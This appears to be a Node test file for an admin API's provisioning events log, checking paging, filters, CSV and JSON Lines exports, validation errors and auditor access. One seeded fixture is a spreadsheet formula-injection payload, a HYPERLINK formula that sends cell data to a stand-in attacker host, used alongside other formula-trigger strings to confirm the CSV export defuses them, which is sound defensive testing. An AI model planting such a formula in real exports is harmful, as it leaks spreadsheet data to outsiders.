import assert from "node:assert/strict";
import { after, before, describe, it } from "node:test";
import type { ProvisioningEvent } from "../../src/domain/provisioning-ports.ts";
import { parseCsv } from "../../src/services/directory/csv.ts";
import { assertProblem } from "../support/errors.ts";
import { addAuditor } from "../support/provisioning.ts";
import { startTestServer, type TestServer } from "../support/server.ts";

type Json = Record<string, unknown>;

/** `GET /provisioning/events`: pages of JSON, and whole exports as CSV and JSON Lines. */
describe("the provisioning events log on the admin API", () => {
  let server: TestServer;
  const bulk = 1200;

  const event = (edit: Partial<ProvisioningEvent>): ProvisioningEvent => ({
    at: "2026-11-20T10:00:00.000Z",
    connectionId: "org",
    channel: "staff",
    cycleId: "cycle-1",
    type: "UPDATE",
    sourceId: "bulk",
    targetId: "005000000000001AAA",
    success: true,
    cause: null,
    detail: { fields: ["Title"] },
    ...edit,
  });
  const get = (query: string, headers: Record<string, string> = {}) =>
    server.request("GET", `/provisioning/events${query}`, undefined, { headers });
  const page = async (query: string) => {
    const response = await get(query);
    assert.equal(response.statusCode, 200, response.body);
    return response.json() as { items: Json[]; next?: number };
  };
  const csvRecords = (text: string) => {
    const parsed = parseCsv(text);
    assert.ok(parsed.ok, text);
    return parsed.records.map((r) => r.fields);
  };

  before(async () => {
    server = await startTestServer();
    const repo = server.context.store.provisioning;
    // Oldest first: the bulk, then the ones the filters and the CSV quoting look for.
    await repo.appendEvents(Array.from({ length: bulk }, () => event({})));
    await repo.appendEvents([
      event({ at: "2026-11-25T08:00:00.000Z", type: "CREATE", sourceId: "ada", cause: null }),
      event({
        at: "2026-11-26T08:00:00.000Z",
        type: "CREATE",
        sourceId: "bob",
        targetId: null,
        success: false,
        cause: 'Title: data value too large: "Chief, everything" (max length=80)',
      }),
      event({
        at: "2026-11-27T08:00:00.000Z",
        connectionId: "other",
        channel: "partners",
        type: "DEACTIVATE",
        sourceId: "ada",
        success: false,
        cause: '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
      }),
      event({
        at: "2026-11-28T08:00:00.000Z",
        type: "SKIP",
        sourceId: "carol",
        cause: "+1 line one\nline two",
      }),
      event({ at: "2026-11-28T09:00:00.000Z", type: "SKIP", sourceId: "dave", cause: "-2" }),
      event({ at: "2026-11-28T10:00:00.000Z", type: "SKIP", sourceId: "erin", cause: "@SUM(A1:A2)" }),
    ]);
  });
  after(async () => {
    await server?.dispose();
  });

  it("answers a page of JSON, newest first, with the id of the next page", async () => {
    const first = await page("");
    assert.equal(first.items.length, 100, "100 by default");
    assert.deepEqual(
      first.items.slice(0, 3).map((e) => e.sourceId),
      ["erin", "dave", "carol"],
    );
    const item = first.items[0] as Json;
    for (const key of [
      "id",
      "at",
      "cycleId",
      "connectionId",
      "channel",
      "type",
      "sourceId",
      "targetId",
      "success",
      "cause",
    ])
      assert.ok(key in item, key);
    const two = await page("?limit=2");
    assert.equal(two.items.length, 2);
    const next = await page(`?limit=2&before=${String(two.next)}`);
    assert.deepEqual(
      next.items.map((e) => e.sourceId),
      ["carol", "ada"],
    );
    const last = await page("?connectionId=org&type=CREATE");
    assert.equal(last.next, undefined, "no next page after the last");
  });

  it("filters by connection, channel, user, type, success and time", async () => {
    const ids = async (query: string) => (await page(query)).items.map((e) => e.sourceId);
    assert.deepEqual(await ids("?connectionId=other"), ["ada"]);
    assert.deepEqual(await ids("?channel=partners"), ["ada"]);
    assert.deepEqual(await ids("?user=ADA"), ["ada", "ada"], "uids ignore case");
    assert.deepEqual(await ids("?type=CREATE"), ["bob", "ada"]);
    assert.deepEqual(await ids("?success=false"), ["ada", "bob"]);
    assert.deepEqual(await ids("?success=true&type=SKIP&since=2026-11-28T08:30:00Z"), ["erin", "dave"]);
    assert.deepEqual(await ids("?since=2026-11-28"), ["erin", "dave", "carol"]);
    assert.deepEqual(await ids("?connectionId=org&user=ada&success=true"), ["ada"]);
  });

  it("exports every matching event as CSV: a header row, RFC 4180 quoting, formulas defused", async () => {
    const response = await get("?format=csv");
    assert.equal(response.statusCode, 200);
    assert.match(String(response.headers["content-type"]), /^text\/csv/);
    assert.ok(
      response.body.startsWith("at,cycleId,connectionId,channel,type,sourceId,targetId,success,cause\r\n"),
    );
    const [header, ...rows] = csvRecords(response.body);
    assert.equal(header?.length, 9);
    assert.equal(rows.length, bulk + 6, "all of them, past the page size");
    const cause = (sourceId: string, type?: string) =>
      rows.find((r) => r[5] === sourceId && (type === undefined || r[4] === type))?.[8];
    assert.equal(cause("bob"), 'Title: data value too large: "Chief, everything" (max length=80)');
    assert.ok(
      response.body.includes('"Title: data value too large: ""Chief, everything"" (max length=80)"'),
      "quotes doubled inside a quoted field",
    );
    assert.equal(cause("ada", "DEACTIVATE"), `'=HYPERLINK("https://evil.example/?leak="&A1,"click")`);
    assert.equal(cause("carol"), "'+1 line one\nline two");
    assert.equal(cause("dave"), "'-2");
    assert.equal(cause("erin"), "'@SUM(A1:A2)");
    assert.deepEqual(rows[rows.length - 1], [
      "2026-11-20T10:00:00.000Z",
      "cycle-1",
      "org",
      "staff",
      "UPDATE",
      "bulk",
      "005000000000001AAA",
      "true",
      "",
    ]);
    const byAccept = await get("?success=false", { accept: "text/csv" });
    assert.match(String(byAccept.headers["content-type"]), /^text\/csv/);
    assert.deepEqual(
      csvRecords(byAccept.body)
        .slice(1)
        .map((r) => r[5]),
      ["ada", "bob"],
      "filters apply to exports",
    );
  });

  it("exports JSON Lines, one event a line, by format or by Accept", async () => {
    const response = await get("?format=jsonl");
    assert.equal(response.statusCode, 200);
    assert.match(String(response.headers["content-type"]), /^application\/x-ndjson/);
    const lines = response.body.trimEnd().split("\n");
    assert.equal(lines.length, bulk + 6);
    const first = JSON.parse(lines[0] ?? "");
    assert.equal(first.sourceId, "erin");
    assert.deepEqual(JSON.parse(lines[lines.length - 1] ?? "").detail, { fields: ["Title"] });
    const byAccept = await get("?type=CREATE&limit=1", { accept: "application/x-ndjson" });
    assert.deepEqual(
      byAccept.body
        .trimEnd()
        .split("\n")
        .map((l) => JSON.parse(l).sourceId),
      ["bob"],
      "limit caps an export",
    );
  });

  it("refuses bad filters with a clear error naming the parameter", async () => {
    for (const [query, field] of [
      ["?type=BOGUS", "type"],
      ["?success=maybe", "success"],
      ["?since=yesterday", "since"],
      ["?since=2026-02-30", "since"],
      ["?limit=0", "limit"],
      ["?limit=5000", "limit"],
      ["?before=abc", "before"],
      ["?format=xml", "format"],
      ["?colour=red", "colour"],
    ] as const) {
      const response = await get(query);
      assertProblem(response, "REQ_VALIDATION");
      assert.ok(
        (response.json().errors as Json[]).some((e) => String(e.field).endsWith(field)),
        `${query}: ${response.body}`,
      );
    }
  });

  it("lets auditors read and export the log", async () => {
    const response = await server.request("GET", "/provisioning/events?format=csv&type=CREATE", undefined, {
      auth: await addAuditor(server),
    });
    assert.equal(response.statusCode, 200);
    assert.equal(csvRecords(response.body).length, 3);
  });
});
